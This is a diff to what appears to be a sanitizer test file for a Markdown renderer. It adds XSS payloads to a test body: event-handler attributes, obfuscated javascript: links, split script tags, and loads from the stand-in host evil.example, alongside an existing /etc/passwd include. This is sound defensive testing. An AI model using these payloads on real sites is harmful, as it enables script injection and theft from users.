@@ -89,6 +89,18 @@ BODY = "\n\n".join(
         '--8<-- "/etc/passwd"\n\n[^1]\n\n[^1]: <script>alert(1)</script>\n',
         f"| <script>{RUN}</script> | ก |\n|:-:|---|\n| ก | <img src=x onerror='{RUN}'> |\n",
         f'!!! note "</p><script>{RUN}</script>"\n    ก\n',
+        f"<svg><animate onbegin='{RUN}' attributeName=x dur=1s>",
+        f'<details open ontoggle="{RUN}">',
+        f'<video><source onerror="{RUN}"></video><marquee onstart="{RUN}">',
+        f"<a href='jav&#x09;ascript:{RUN}'>x</a> <a href='&#106avascript:{RUN}'>x</a>",
+        f"[x](javascript&colon;{RUN})",
+        f"<svg><a xlink:href='javascript:{RUN}'><text y=9>x</text></a></svg>",
+        f"<template><script>{RUN}</script></template><xmp><script>{RUN}</script></xmp>",
+        f"<form><button formaction='javascript:{RUN}'>x</button></form><body onload=\"{RUN}\">",
+        "<img srcset='https://evil.example/a 1x'><audio src=https://evil.example/a autoplay>",
+        "<link rel=dns-prefetch href=//evil.example><link rel=preconnect href=https://evil.example>",
+        f"<<script>{RUN}//<</script><scr<script>ipt>{RUN}</scr</script>ipt><script/src=https://evil.example/x.js>",
+        "[a]: //evil.example/q\n\n![i][a]",
     )
 )
 
